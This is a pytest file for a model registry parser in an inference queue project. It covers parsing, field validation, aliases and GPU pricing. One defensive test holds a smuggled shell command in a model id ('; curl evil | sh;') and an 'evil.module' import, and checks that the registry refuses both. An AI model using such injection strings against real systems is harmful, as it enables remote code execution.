"""The model registry file (inferq/config/registry.py): what it yields per model, every refusal naming INFERQ_MODELS."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from inferq.config.registry import load, parse, queue_of_job, served_model
from inferq.config.settings import Settings, SettingsError

ROOT = Path(__file__).resolve().parents[2]


def registry_of(raw: Any, base: Settings | None = None) -> Any:
    return parse(raw, base or Settings(), "models.yaml")


def refusal(raw: Any) -> str:
    with pytest.raises(SettingsError) as caught:
        registry_of(raw)
    assert caught.value.variable == "INFERQ_MODELS"
    return str(caught.value)


def test_the_example_file_yields_two_fleets_with_their_own_settings() -> None:
    base = Settings(job_timeout_s=111, redis_url="redis://cache:6379/0")
    registry = load(base.replace(models=str(ROOT / "models.example.yaml")))
    assert registry is not None
    chat, embed = registry.models
    assert (chat.name, chat.queue, chat.service, chat.aliases) == ("chat", "chat", "inferq-chat", ("gpt-4o-mini",))
    assert (chat.settings.window, chat.settings.scale_max, chat.settings.queue) == (4, 3, "chat")
    assert (embed.settings.window, embed.settings.scale_max, embed.settings.max_attempts) == (8, 2, 2)
    assert embed.settings.ecs_service == "inferq-embed"
    assert embed.settings.job_timeout_s == 111  # not in the entry: the process's setting
    assert embed.settings.redis_url == "redis://cache:6379/0"
    assert registry.resolve(None) is chat
    assert registry.resolve("text-embedding-3-small") is embed
    assert registry.resolve("gpt-4") is None
    assert registry.by_queue("embed") is embed


def test_defaults_derive_queue_and_service_from_the_name_and_json_works(tmp_path: Path) -> None:
    path = tmp_path / "models.json"
    path.write_text(json.dumps({"models": [{"name": "llama-3.1:8b"}]}))
    registry = load(Settings(models=str(path)))
    assert registry is not None
    [model] = registry.models
    assert (model.queue, model.service, model.served_model) == ("llama-3-1-8b", "inferq-llama-3-1-8b", "llama-3.1:8b")
    assert registry.resolve(None) is None  # no default: body.model is required


def test_all_documented_fields_are_read() -> None:
    registry = registry_of({"models": [{
        "name": "m", "window": "auto", "window_max": 32, "job_timeout_s": 60, "max_attempts": 5,
        "max_queue_depth": 7, "scale": {"min": 1, "max": 9, "target_per_worker": 2, "down_cooldown_s": 3,
                                        "to_zero_after_s": 4},
        "backend": {"kind": "openai", "base_url": "http://10.0.0.1:8000/", "served_model": "served",
                    "args": {"max_model_len": 4096}},
        "deploy": {"instance_type": "g5.xlarge", "image": "r.example/x@sha256:" + "0" * 64, "gpus": 1,
                   "memory_mib": 15000}}]})
    [m] = registry.models
    s = m.settings
    assert (s.window, s.window_max, s.job_timeout_s, s.max_attempts, s.max_queue_depth) == ("auto", 32, 60, 5, 7)
    assert (s.scale_min, s.scale_max, s.scale_target_per_worker, s.scale_down_cooldown_s,
            s.scale_to_zero_after_s) == (1, 9, 2, 3, 4)
    assert (s.backend, s.openai_base_url, m.served_model) == ("openai", "http://10.0.0.1:8000", "served")
    assert m.backend_args == {"max_model_len": 4096} and m.deploy["instance_type"] == "g5.xlarge"


@pytest.mark.parametrize(
    ("raw", "named"),
    [
        ({"models": []}, "models"),
        ({"models": [{"name": "a b"}]}, "models[0].name"),
        ({"models": [{"name": "a", "window": 0}]}, "model 'a' window"),
        ({"models": [{"name": "a", "window": True}]}, "model 'a' window"),
        ({"models": [{"name": "a", "scale": {"max": "many"}}]}, "model 'a' scale.max"),
        ({"models": [{"name": "a", "scale": {"min": 5, "max": 2}}]}, "model 'a'"),
        ({"models": [{"name": "a", "scale": {"maximum": 2}}]}, "unknown field(s) maximum"),
        ({"models": [{"name": "a", "backend": {"kind": "tgi"}}]}, "model 'a' backend.kind"),
        ({"models": [{"name": "a", "backend": {"base_url": "ftp://x"}}]}, "model 'a' backend.base_url"),
        ({"models": [{"name": "a", "queue": "a{b}"}]}, "model 'a' queue"),
        ({"models": [{"name": "a", "deploy": {"gpus": 0}}]}, "model 'a' deploy.gpus"),
        ({"models": [{"name": "a", "windw": 3}]}, "unknown field(s) windw"),
        ({"models": [{"name": "a"}, {"name": "b", "aliases": ["a"]}]}, "alias 'a' is already used"),
        ({"models": [{"name": "a", "queue": "q"}, {"name": "b", "queue": "q"}]}, "model 'b' queue"),
        ({"models": [{"name": "a"}], "default": "b"}, "default"),
        ({"model": [{"name": "a"}]}, "unknown field(s) model"),
    ],
)
def test_a_bad_field_is_refused_naming_the_variable_the_model_and_the_field(raw: Any, named: str) -> None:
    assert named in refusal(raw)


def test_an_unreadable_or_malformed_file_is_refused_naming_the_variable(tmp_path: Path) -> None:
    for name, text in (("m.yaml", "models: [name: a\n"), ("m.json", "{"), ("m.toml", "x = 1")):
        (tmp_path / name).write_text(text)
        with pytest.raises(SettingsError) as caught:
            load(Settings(models=str(tmp_path / name)))
        assert caught.value.variable == "INFERQ_MODELS"
    with pytest.raises(SettingsError, match="INFERQ_MODELS: cannot read"):
        load(Settings(models=str(tmp_path / "missing.yaml")))


def test_a_worker_serves_the_model_inferq_model_names() -> None:
    example = str(ROOT / "models.example.yaml")
    served = served_model(Settings(models=example, model="embed"))
    assert served is not None and served.settings.queue == "embed"
    with pytest.raises(SettingsError) as caught:
        served_model(Settings(models=example))
    assert caught.value.variable == "INFERQ_MODEL" and "chat, embed" in str(caught.value)
    with pytest.raises(SettingsError) as caught:
        served_model(Settings(models=example, model="gpt-4o-mini"))  # an alias is a client's name, not a fleet
    assert caught.value.variable == "INFERQ_MODEL"
    assert served_model(Settings(queue="q")) is None  # no registry: the worker keeps its own settings


def test_a_registry_job_id_carries_its_queue() -> None:
    assert queue_of_job("job_" + "a" * 26 + "_chat-2") == "chat-2"
    assert queue_of_job("job_" + "a" * 26) is None


def test_only_a_model_marked_multimodal_takes_images() -> None:
    registry = registry_of({"default": "vision", "models": [
        {"name": "vision", "aliases": ["vl"], "multimodal": True}, {"name": "text"}]})
    assert [m.multimodal for m in registry.models] == [True, False]
    assert registry.multimodal("vl") and registry.multimodal(None)  # an alias; the default model
    assert not registry.multimodal("text") and not registry.multimodal("unknown") and not registry.multimodal(3)
    with pytest.raises(SettingsError, match="multimodal: must be true or false"):
        registry_of({"models": [{"name": "m", "multimodal": "yes"}]})


@pytest.mark.parametrize(("deploy_or_backend", "named"), [
    ({"deploy": {"image": "123.dkr.ecr.us-east-1.amazonaws.com/worker:latest"}}, "deploy.image"),
    ({"backend": {"args": {"host": "0.0.0.0"}}}, "backend.args.host"),
    ({"backend": {"args": {"--host": "0.0.0.0"}}}, "backend.args.--host"),
    ({"backend": {"args": {"enable-log-requests": True}}}, "backend.args.enable-log-requests"),
    ({"backend": {"args": {"allowed_local_media_path": "/"}}}, "backend.args.allowed_local_media_path"),
    ({"backend": {"args": {"middleware": "evil.module"}}}, "backend.args.middleware"),
    ({"backend": {"args": {"model": "org/m'; curl evil | sh; '"}}}, "backend.args.model"),
    ({"backend": {"served_model": "a b"}}, "backend.served_model"),
])
def test_supply_chain_and_engine_flags_a_registry_may_not_set(deploy_or_backend: dict[str, Any], named: str) -> None:
    """Issue 47, L5: a model's image is pinned by digest; no registry argument reopens what the deployment closed
    (the engine's listening address, its logging of prompts, media it may read or fetch, code it imports); what it
    loads reaches a root shell script, so it is a plain id."""
    message = refusal({"models": [{"name": "m", **deploy_or_backend}]})
    assert f"model 'm' {named}" in message, message


def test_a_digest_pinned_image_and_ordinary_engine_arguments_pass() -> None:
    registry = registry_of({"models": [{"name": "m", "deploy": {"image": "r.example/w@sha256:" + "ab" * 32},
                                        "backend": {"kind": "vllm", "args": {"model": "Qwen/Qwen2.5-7B-Instruct",
                                                                             "max_model_len": 4096}}}]})
    assert registry.models[0].deploy["image"].endswith("ab" * 32)


def test_a_model_s_gpu_hour_price_defaults_to_its_instance_type_s_on_demand_price_per_gpu() -> None:
    base = Settings(gpu_hour_usd=9.0)
    registry = registry_of({"models": [
        {"name": "one", "deploy": {"instance_type": "g6.xlarge"}},
        {"name": "four", "deploy": {"instance_type": "g5.12xlarge", "gpus": 4}},  # $5.672 an hour over 4 A10Gs
        {"name": "priced", "gpu_hour_usd": 0.5, "deploy": {"instance_type": "g5.xlarge"}},  # its own rate wins
        {"name": "unlisted", "deploy": {"instance_type": "p5.48xlarge"}},
        {"name": "nowhere"}]}, base)
    prices = {m.name: m.settings.gpu_hour_usd for m in registry.models}
    assert prices == {"one": 0.8048, "four": 1.418, "priced": 0.5, "unlisted": 9.0, "nowhere": 9.0}
